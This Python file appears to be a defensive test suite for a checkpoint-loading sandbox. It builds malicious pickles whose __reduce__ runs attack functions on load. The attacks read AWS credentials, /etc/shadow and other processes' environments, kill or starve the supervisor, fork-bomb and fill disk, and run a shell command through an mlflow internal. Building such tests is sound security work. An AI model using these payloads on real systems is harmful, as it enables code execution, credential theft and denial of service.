"""What a hostile checkpoint may try: each function is carried inside a pickle and run where the checkpoint is loaded.

`world` holds what the attacker is assumed to know: paths, ports and process ids. A function returns what it won, which
must be nothing; one that only hurts returns nothing itself.
"""

import inspect
import json
from collections.abc import Callable
from typing import Any

World = dict[str, Any]
Attack = Callable[[World], Any]

ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__] = function
    return function


class Gadget:
    """Unpickles as the call of an attack, and leaves what it won in the folder it finds itself in."""

    def __init__(self, name: str, world: World) -> None:
        self.name, self.world = name, world

    def __reduce__(self):
        source = inspect.getsource(ATTACKS[self.name]).replace("@attack\n", "")
        code = (
            f"import json\n{source}\n"
            f"try:\n    won = {self.name}(json.loads({json.dumps(self.world)!r}))\n"
            "except BaseException as error:\n    won, refused = None, repr(error)\n"
            "else:\n    refused = ''\n"
            "open('loot.json', 'w').write(json.dumps({'won': won, 'refused': refused}, default=repr))\n"
        )
        return exec, (code,)


@attack
def read_cloud_credentials(world):
    return open(world["home"] + "/.aws/credentials").read()


@attack
def read_environment(world):
    import os

    return [value for value in os.environ.values() if world["secret"] in value]


@attack
def read_the_supervisors_environment(world):
    return open(f"/proc/{world['supervisor']}/environ").read()


@attack
def read_everybodys_environment(world):
    import glob
    import os

    won = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        if path.split("/")[2] != str(os.getpid()):
            try:
                won += [path] if world["secret"] in open(path).read() else []
            except OSError:
                continue
    return won


@attack
def read_the_supervisors_memory(world):
    with open(f"/proc/{world['supervisor']}/mem", "rb") as memory:
        return memory.readable()


@attack
def read_the_ledger(world):
    import sqlite3

    return sqlite3.connect(world["ledger"]).execute("select * from secrets").fetchall()


@attack
def read_another_jobs_files(world):
    return open(world["other_job"] + "/model.pth").read()


@attack
def list_the_jobs(world):
    import os

    return os.listdir(world["jobs"])


@attack
def read_shadow(world):
    return open("/etc/shadow").read()


@attack
def read_through_a_descriptor(world):
    import os

    won = []
    for number in range(3, 256):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
            others = target.startswith(("socket:", world["jobs"])) and target != world["checkpoint"]
            won += [target] if others else []
        except OSError:
            continue
    return won


@attack
def connect_out(world):
    import socket

    socket.create_connection(("127.0.0.1", world["port"]), 2).sendall(b"secret")
    return "sent"


@attack
def send_a_datagram(world):
    import socket

    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", world["udp_port"]))


@attack
def connect_with_a_bare_system_call(world):
    import ctypes

    descriptor = ctypes.CDLL(None).socket(2, 1, 0)
    return descriptor if descriptor >= 0 else None


@attack
def bind_a_port(world):
    import socket

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    return listener.getsockname()


@attack
def talk_to_a_database_through_its_file(world):
    import socket

    connection = socket.socket(socket.AF_UNIX)
    connection.connect(world["unix_socket"])
    return "connected"


@attack
def talk_to_an_abstract_socket(world):
    import socket

    connection = socket.socket(socket.AF_UNIX)
    connection.connect("\0" + world["abstract_socket"])
    return "connected"


@attack
def order_a_call_from_the_warm_parent(world):
    import glob
    import socket

    connection = socket.socket(socket.AF_UNIX)
    connection.connect(glob.glob(world["pool"] + "/*/socket")[0])
    return "connected"


@attack
def write_outside(world):
    open(world["outside"] + "/mark", "w").write("x")
    return "written"


@attack
def change_the_ledger(world):
    open(world["ledger"], "r+b").write(b"x")
    return "written"


@attack
def change_its_own_checkpoint(world):
    open(world["checkpoint"], "ab").write(b"x")
    return "written"


@attack
def change_a_package(world):
    import numpy

    open(numpy.__file__, "a").write("\n")
    return "written"


@attack
def plant_a_startup_file(world):
    import site

    open(site.getsitepackages()[0] + "/hostile.pth", "w").write("import os\n")
    return "written"


@attack
def lead_out_by_a_symbolic_link(world):
    import os

    os.symlink(world["home"] + "/.aws/credentials", "link")
    return "linked"


@attack
def answer_through_a_symbolic_link(world):
    import os

    os.symlink(world["home"] + "/.aws/credentials", ".answer.json")
    return "linked"


@attack
def take_a_file_in_by_a_hard_link(world):
    import os

    os.link(world["other_job"] + "/model.pth", "link")
    return "linked"


@attack
def leave_a_pipe_that_blocks_its_reader(world):
    import os

    os.mkfifo(".answer.json")
    return "made"


@attack
def make_a_device(world):
    import os
    import stat

    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return "made"


@attack
def change_the_rights_of_somebodys_file(world):
    import os

    os.chmod(world["ledger"], 0o777)
    return "changed" if os.stat(world["ledger"]).st_mode & 0o777 == 0o777 else None


@attack
def send_through_a_pair_of_sockets(world):
    import socket

    pair, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    pair.sendto(b"secret", world["datagram_socket"])
    return "sent"


@attack
def hide_memory_in_a_segment(world):
    import ctypes

    return ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) >= 0 or None


@attack
def make_a_namespace(world):
    import ctypes

    new_user, system_call = 0x10000000, 56
    process = ctypes.CDLL(None).syscall(system_call, new_user | 17, 0, 0, 0, 0)
    if process == 0:
        import os

        os._exit(0)
    return process if process > 0 else None


@attack
def slow_the_supervisor_down(world):
    import os

    os.setpriority(os.PRIO_PROCESS, world["supervisor"], 19)
    return "slowed" if os.getpriority(os.PRIO_PROCESS, world["supervisor"]) == 19 else None


@attack
def become_another_user(world):
    import os

    os.setuid(world["nobody"])
    return os.getuid()


@attack
def mount_something(world):
    import ctypes

    return ctypes.CDLL(None).mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or None


@attack
def trace_a_sibling(world):
    import ctypes

    attach = 16
    return ctypes.CDLL(None).ptrace(attach, world["sibling"], None, None) == 0 or None


@attack
def kill_the_supervisor(world):
    import os
    import signal

    os.kill(world["supervisor"], signal.SIGKILL)
    return "killed"


@attack
def kill_a_sibling(world):
    import os
    import signal

    os.kill(world["sibling"], signal.SIGKILL)
    return "killed"


@attack
def kill_the_warm_parent(world):
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    return "killed"


@attack
def starve_the_supervisor(world):
    import resource

    resource.prlimit(world["supervisor"], resource.RLIMIT_CPU, (1, 1))


@attack
def raise_its_own_limits(world):
    import resource

    resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return "raised"


@attack
def live_on_after_the_call(world):
    import os
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 60
            while time.time() < end:
                time.sleep(0.05)
                open("alive", "w").write(str(time.time()))
        os._exit(0)


@attack
def fork_without_end(world):
    import os

    while True:
        os.fork()


@attack
def eat_all_memory(world):
    held = []
    while True:
        held.append(bytearray(b"x" * (1 << 26)))


@attack
def eat_memory_that_is_shared(world):
    import mmap

    held = []
    while True:
        held.append(mmap.mmap(-1, 1 << 28))
        held[-1].write(b"x" * (1 << 28))


@attack
def spin(world):
    while True:
        pass


@attack
def fill_the_disk(world):
    block = b"x" * (1 << 24)
    number = 0
    while True:
        with open(f"filler-{number}", "wb") as stream:
            for _ in range(16):
                stream.write(block)
        number += 1


@attack
def write_one_file_without_end(world):
    block = b"x" * (1 << 24)
    with open("filler", "wb") as stream:
        while True:
            stream.write(block)


@attack
def leave_a_hole_of_a_terabyte(world):
    import os

    os.truncate(os.open("hole", os.O_CREAT | os.O_WRONLY), 1 << 40)
    return "made"


@attack
def make_folders_without_end(world):
    import os

    while True:
        os.mkdir("d")
        os.chdir("d")


@attack
def say_that_the_lease_is_lost(world):
    import json
    import os

    failure = {"type": "StaleLeaseError", "message": "lost", "remedy": "", "step": "", "traceback": ""}
    open(".answer.json", "w").write(json.dumps({"value": None, "failure": failure, "warnings": []}))
    os._exit(0)


@attack
def print_without_end(world):
    line = "x" * (1 << 20)
    while True:
        print(line)


@attack
def answer_in_the_childs_place(world):
    import json
    import os

    answer = {
        "value": {
            "interface": {"inputs": [], "outputs": []},
            "rungs": [
                {
                    "name": "example",
                    "group": "",
                    "inputs": world["other_job"],
                    "expected": world["other_job"],
                }
            ],
            "trace": world["other_job"],
            "evidence": "samples",
        },
        "failure": None,
        "warnings": [],
    }
    open(".answer.json", "w").write(json.dumps(answer))
    os._exit(0)


@attack
def answer_with_a_mountain(world):
    import os

    with open(".answer.json", "w") as stream:
        stream.write("[" * 100_000_000)
    os._exit(0)


@attack
def answer_with_a_deep_nest(world):
    import os

    with open(".answer.json", "w") as stream:
        stream.write('{"value":' + "[" * 100_000 + "]" * 100_000 + "}")
    os._exit(0)


@attack
def run_a_command_by_mlflows_own_gadget(world):
    import os

    from mlflow.projects.backend.local import _run_entry_point

    run = _run_entry_point(f"cat {world['home']}/.aws/credentials > stolen", os.getcwd(), "experiment", "run")
    del run
    text = open("stolen").read()
    return text or None
